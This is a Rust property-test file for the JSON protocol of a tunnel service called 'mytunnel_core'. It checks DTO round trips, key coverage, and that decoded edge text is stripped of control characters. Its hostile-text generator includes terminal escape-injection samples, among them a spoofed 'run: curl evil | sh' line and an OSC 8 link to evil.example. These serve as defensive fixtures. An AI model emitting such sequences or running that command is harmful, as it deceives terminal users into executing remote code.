//! Every DTO of `mytunnel_core::protocol` round-trips through JSON: serialize, deserialize,
//! equal. And every ctl answer does so the way a client reads it (`CtlResponse::to_json`,
//! then `decode_reply` for its verb).
//!
//! Each DTO's strategy is a list of `(JSON key, value strategy)` lines, one per field: the
//! generated object is deserialized into the DTO (so the DTO value is arbitrary), then the
//! round trip is checked. Adding a field to a DTO is one line in its list; a field that
//! serializes under a key no line generates fails `keys_are_covered` with its name.

// Test code: a panic is a failed assertion.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::collections::BTreeSet;
use std::fmt::Debug;

use mytunnel_core::printable::{is_unprintable, Printable};
use mytunnel_core::protocol::{
    decode_reply, ApiError, ComponentHealth, CtlResponse, DeletedDto, ErrorCode, ErrorEnvelope,
    HealthDto, LeaseDto, PortUsage, ReconcileDto, StateCounts, StatsDto, Verb,
};
use mytunnel_core::{LeaseState, Timestamp};
use proptest::prelude::*;
use serde::de::DeserializeOwned;
use serde::Serialize;
use serde_json::{json, Map, Value};

type Field = (&'static str, BoxedStrategy<Value>);

/// A JSON object with one generated value per field; `null` values are left out (an
/// absent optional key).
fn object(fields: Vec<Field>) -> BoxedStrategy<Value> {
    let (names, values): (Vec<&'static str>, Vec<BoxedStrategy<Value>>) =
        fields.into_iter().unzip();
    values
        .prop_map(move |values| {
            let map: Map<String, Value> = names
                .iter()
                .zip(values)
                .filter(|(_, v)| !v.is_null())
                .map(|(k, v)| ((*k).to_owned(), v))
                .collect();
            Value::Object(map)
        })
        .boxed()
}

fn to_value<T: Serialize>(v: T) -> Value {
    serde_json::to_value(v).unwrap()
}

// --- value strategies --------------------------------------------------------------------

/// Any text, and text a hostile edge would send: escape sequences (CSI, OSC with BEL or
/// ST, OSC 8 links), other C0 and C1 controls, DEL and bidirectional overrides.
fn text() -> BoxedStrategy<Value> {
    let hostile_char = prop_oneof![
        any::<char>(),
        (0u32..0x20).prop_map(|c| char::from_u32(c).unwrap()),
        (0x7fu32..0xa0).prop_map(|c| char::from_u32(c).unwrap()),
        proptest::sample::select(vec!['\u{202E}', '\u{2066}', '\u{200F}', '\u{1b}', '\u{7}']),
    ];
    let hostile = proptest::collection::vec(hostile_char, 0..40)
        .prop_map(|chars| chars.into_iter().collect::<String>());
    let sequence = proptest::sample::select(vec![
        "\u{1b}]0;pwned\u{7}",
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}[31;1mrun: curl evil | sh\u{1b}[0m",
        "\u{1b}]8;;https://evil.example/\u{1b}\\docs\u{1b}]8;;\u{1b}\\",
        "\u{9b}2J",
    ]);
    prop_oneof![
        any::<String>(),
        hostile,
        (any::<String>(), sequence).prop_map(|(t, s)| format!("{t}{s}")),
    ]
    .prop_map(Value::from)
    .boxed()
}

fn u64_value() -> BoxedStrategy<Value> {
    any::<u64>().prop_map(Value::from).boxed()
}

fn u16_value() -> BoxedStrategy<Value> {
    any::<u16>().prop_map(Value::from).boxed()
}

fn boolean() -> BoxedStrategy<Value> {
    any::<bool>().prop_map(Value::from).boxed()
}

fn lease_id() -> BoxedStrategy<Value> {
    "lease_[a-z2-7]{16}".prop_map(Value::from).boxed()
}

fn owner() -> BoxedStrategy<Value> {
    "[a-z_][a-z0-9._-]{0,30}[$]?".prop_map(Value::from).boxed()
}

fn timestamp() -> BoxedStrategy<Value> {
    (0i64..=253_402_300_799)
        .prop_map(|s| to_value(Timestamp::from_unix_seconds(s).unwrap()))
        .boxed()
}

fn state() -> BoxedStrategy<Value> {
    prop_oneof![
        Just(LeaseState::Active),
        Just(LeaseState::Released),
        Just(LeaseState::Expired)
    ]
    .prop_map(to_value)
    .boxed()
}

/// Absent, a loopback port, or a unix socket path.
fn bind_target() -> BoxedStrategy<Value> {
    prop_oneof![
        Just(Value::Null),
        (1u16..).prop_map(|p| Value::from(format!("127.0.0.1:{p}"))),
        "(/[a-z0-9_-][a-z0-9._-]{0,11}){1,4}/lease_[a-z2-7]{16}[.]sock".prop_map(Value::from),
    ]
    .boxed()
}

fn error_code() -> BoxedStrategy<Value> {
    proptest::sample::select(ErrorCode::ALL.to_vec())
        .prop_map(to_value)
        .boxed()
}

fn optional(inner: BoxedStrategy<Value>) -> BoxedStrategy<Value> {
    prop_oneof![Just(Value::Null), inner].boxed()
}

// --- DTO strategies: one line per field ------------------------------------------------

fn lease_fields() -> Vec<Field> {
    vec![
        ("lease_id", lease_id()),
        ("slug", text()),
        ("host", text()),
        ("owner", owner()),
        ("edge_bind_port", u16_value()),
        ("edge_bind_target", bind_target()),
        ("created_at", timestamp()),
        ("updated_at", timestamp()),
        ("expires_at", timestamp()),
        ("state", state()),
        ("ttl_seconds", u64_value()),
    ]
}

fn api_error_fields() -> Vec<Field> {
    vec![
        ("code", error_code()),
        ("message", text()),
        ("hint", text()),
    ]
}

fn envelope_fields() -> Vec<Field> {
    vec![("error", object(api_error_fields()))]
}

fn deleted_fields() -> Vec<Field> {
    vec![("deleted", lease_id())]
}

fn component_fields() -> Vec<Field> {
    vec![("ok", boolean()), ("detail", text())]
}

fn health_fields() -> Vec<Field> {
    vec![
        ("healthy", boolean()),
        ("version", text()),
        ("base_domain", text()),
        ("db", object(component_fields())),
        ("caddy", object(component_fields())),
    ]
}

fn reconcile_fields() -> Vec<Field> {
    vec![
        ("added", u64_value()),
        ("removed", u64_value()),
        ("fixed", u64_value()),
    ]
}

fn state_count_fields() -> Vec<Field> {
    vec![
        ("active", u64_value()),
        ("released", u64_value()),
        ("expired", u64_value()),
    ]
}

fn port_usage_fields() -> Vec<Field> {
    vec![
        ("used", u64_value()),
        ("total", u64_value()),
        ("min_port", u16_value()),
        ("max_port", u16_value()),
    ]
}

fn per_owner() -> BoxedStrategy<Value> {
    optional(
        proptest::collection::btree_map("[a-z_][a-z0-9._-]{0,15}", any::<u64>(), 0..5)
            .prop_map(to_value)
            .boxed(),
    )
}

fn stats_fields() -> Vec<Field> {
    vec![
        ("leases", object(state_count_fields())),
        ("ports", object(port_usage_fields())),
        ("per_owner", per_owner()),
    ]
}

// --- the checks --------------------------------------------------------------------------

/// The generated object read as `T`: every generated object must be a valid DTO.
fn dto<T: DeserializeOwned>(json: &Value) -> T {
    serde_json::from_value(json.clone()).unwrap_or_else(|e| {
        panic!(
            "generated {json} is not a {}: {e}",
            std::any::type_name::<T>()
        )
    })
}

/// serialize → deserialize → equal, through text as on the wire.
fn round_trips<T>(value: &T) -> Result<(), TestCaseError>
where
    T: Serialize + DeserializeOwned + PartialEq + Debug,
{
    let text = serde_json::to_string(value).unwrap();
    let back: T = serde_json::from_str(&text)
        .map_err(|e| TestCaseError::fail(format!("{text} does not read back: {e}")))?;
    prop_assert_eq!(&back, value, "through {}", text);
    Ok(())
}

/// Keys of every object in `value`, recursively, as `path.key`.
fn key_paths(value: &Value, prefix: &str, into: &mut BTreeSet<String>) {
    if let Value::Object(map) = value {
        for (k, v) in map {
            let path = format!("{prefix}{k}");
            if !prefix.ends_with("per_owner.") {
                into.insert(path.clone());
            }
            key_paths(v, &format!("{path}."), into);
        }
    }
}

fn check<T>(json: &Value) -> Result<T, TestCaseError>
where
    T: Serialize + DeserializeOwned + PartialEq + Debug,
{
    let value: T = dto(json);
    round_trips(&value)?;
    Ok(value)
}

/// Every string a decoded answer holds.
fn strings_of(response: &CtlResponse) -> Vec<String> {
    match response {
        CtlResponse::Lease(l) => vec![l.slug.clone(), l.host.clone(), l.owner.to_string()],
        CtlResponse::Leases(ls) => ls
            .iter()
            .flat_map(|l| [l.slug.clone(), l.host.clone(), l.owner.to_string()])
            .collect(),
        CtlResponse::Health(h) => vec![
            h.version.clone(),
            h.base_domain.clone(),
            h.db.detail.clone(),
            h.caddy.detail.clone(),
        ],
        CtlResponse::Stats(s) => s
            .per_owner
            .iter()
            .flatten()
            .map(|(o, _)| o.clone())
            .collect(),
        CtlResponse::Deleted(d) => vec![d.deleted.to_string()],
        CtlResponse::Reconciled(_) => Vec::new(),
    }
}

fn all_printable(strings: &[String]) -> bool {
    strings.iter().all(|s| !s.chars().any(is_unprintable))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Whatever the edge sends, once the client made it printable no control character
    /// (nor bidirectional override) is left in any string it could show.
    #[test]
    fn edge_text_is_printable_once_decoded(
        list in proptest::collection::vec(object(lease_fields()), 0..4),
        envelope in object(envelope_fields()),
        health in object(health_fields()),
        stats in object(stats_fields()),
    ) {
        for (verb, json) in [
            (Verb::List, Value::Array(list)),
            (Verb::Allocate, envelope),
            (Verb::Health, health),
            (Verb::Stats, stats),
        ] {
            match decode_reply(verb, &json.to_string()) {
                Ok(response) => {
                    let shown = response.printable();
                    prop_assert!(all_printable(&strings_of(&shown)), "{shown:?}");
                }
                Err(mytunnel_core::protocol::ReplyError::Refused(error)) => {
                    let shown = error.printable();
                    prop_assert!(
                        all_printable(&[shown.message.clone(), shown.hint.clone()]),
                        "{shown:?}"
                    );
                }
                Err(other) => prop_assert!(false, "{verb}: {other}"),
            }
        }
    }

    #[test]
    fn lease_dto(json in object(lease_fields())) {
        let lease: LeaseDto = check(&json)?;
        let again = decode_reply(Verb::Allocate, &CtlResponse::Lease(lease.clone()).to_json().unwrap());
        prop_assert_eq!(again, Ok(CtlResponse::Lease(lease)));
    }

    #[test]
    fn lease_list(list in proptest::collection::vec(object(lease_fields()), 0..4)) {
        let leases: Vec<LeaseDto> = check(&Value::Array(list))?;
        let response = CtlResponse::Leases(leases);
        prop_assert_eq!(decode_reply(Verb::List, &response.to_json().unwrap()), Ok(response));
    }

    #[test]
    fn api_error_and_envelope(json in object(envelope_fields())) {
        let envelope: ErrorEnvelope = check(&json)?;
        let error: ApiError = check(&json["error"])?;
        prop_assert_eq!(&envelope.error, &error);
        // Every verb reads the envelope as the refusal it is.
        for verb in Verb::ALL {
            let decoded = decode_reply(verb, &error.to_envelope_json());
            prop_assert!(
                matches!(&decoded, Err(mytunnel_core::protocol::ReplyError::Refused(e)) if *e == error),
                "{verb}: {decoded:?}"
            );
        }
    }

    #[test]
    fn deleted_dto(json in object(deleted_fields())) {
        let deleted: DeletedDto = check(&json)?;
        let response = CtlResponse::Deleted(deleted);
        prop_assert_eq!(decode_reply(Verb::Delete, &response.to_json().unwrap()), Ok(response));
    }

    #[test]
    fn health_dto(json in object(health_fields())) {
        let health: HealthDto = check(&json)?;
        let _: ComponentHealth = check(&json["db"])?;
        let response = CtlResponse::Health(health);
        prop_assert_eq!(decode_reply(Verb::Health, &response.to_json().unwrap()), Ok(response));
    }

    #[test]
    fn reconcile_dto(json in object(reconcile_fields())) {
        let counts: ReconcileDto = check(&json)?;
        let response = CtlResponse::Reconciled(counts);
        prop_assert_eq!(decode_reply(Verb::Reconcile, &response.to_json().unwrap()), Ok(response));
    }

    #[test]
    fn stats_dto(json in object(stats_fields())) {
        let stats: StatsDto = check(&json)?;
        let _: StateCounts = check(&json["leases"])?;
        let _: PortUsage = check(&json["ports"])?;
        let response = CtlResponse::Stats(stats);
        prop_assert_eq!(decode_reply(Verb::Stats, &response.to_json().unwrap()), Ok(response));
    }
}

/// Every key a DTO serializes is generated by a line of its strategy: a field added to a
/// DTO without its line fails here, naming it.
#[test]
fn keys_are_covered() {
    fn keys_of(fields: Vec<Field>) -> BTreeSet<String> {
        // One sample with every optional value present is not guaranteed, so collect the
        // keys of many samples.
        let mut runner = proptest::test_runner::TestRunner::deterministic();
        let strategy = object(fields);
        let mut keys = BTreeSet::new();
        for _ in 0..64 {
            let json = strategy.new_tree(&mut runner).unwrap().current();
            key_paths(&json, "", &mut keys);
        }
        keys
    }
    fn serialized<T: Serialize>(value: &T) -> BTreeSet<String> {
        let mut keys = BTreeSet::new();
        key_paths(&to_value(value), "", &mut keys);
        keys
    }
    let ts = Timestamp::from_unix_seconds(1_700_000_000).unwrap();
    let lease = LeaseDto {
        lease_id: "lease_aaaaaaaaaaaaaaaa".parse().unwrap(),
        slug: "s".into(),
        host: "s.example".into(),
        owner: "alice".parse().unwrap(),
        edge_bind_port: 21000,
        edge_bind_target: Some("127.0.0.1:21000".parse().unwrap()),
        created_at: ts,
        updated_at: ts,
        expires_at: ts,
        state: LeaseState::Active,
        ttl_seconds: 120,
    };
    let component = ComponentHealth {
        ok: true,
        detail: "ok".into(),
    };
    let cases: Vec<(&str, BTreeSet<String>, BTreeSet<String>)> = vec![
        ("LeaseDto", serialized(&lease), keys_of(lease_fields())),
        (
            "ErrorEnvelope",
            serialized(&ErrorEnvelope {
                error: ApiError::new(ErrorCode::Internal, "x"),
            }),
            keys_of(envelope_fields()),
        ),
        (
            "DeletedDto",
            serialized(&DeletedDto {
                deleted: lease.lease_id.clone(),
            }),
            keys_of(deleted_fields()),
        ),
        (
            "HealthDto",
            serialized(&HealthDto {
                healthy: true,
                version: "0".into(),
                base_domain: "example".into(),
                db: component.clone(),
                caddy: component,
            }),
            keys_of(health_fields()),
        ),
        (
            "ReconcileDto",
            serialized(&ReconcileDto::default()),
            keys_of(reconcile_fields()),
        ),
        (
            "StatsDto",
            serialized(&StatsDto {
                leases: StateCounts::default(),
                ports: PortUsage {
                    used: 0,
                    total: 1,
                    min_port: 1,
                    max_port: 1,
                },
                per_owner: Some([("alice".to_owned(), 1)].into_iter().collect()),
            }),
            keys_of(stats_fields()),
        ),
    ];
    for (name, serialized, generated) in cases {
        let missing: Vec<&String> = serialized.difference(&generated).collect();
        assert!(
            missing.is_empty(),
            "{name} serializes {missing:?} but its strategy has no line for it: add one"
        );
    }
    // The strategy's values are what the DTO itself writes (e.g. timestamps, targets).
    assert_eq!(
        dto::<LeaseDto>(&to_value(&lease)),
        lease,
        "{}",
        json!(lease)
    );
}
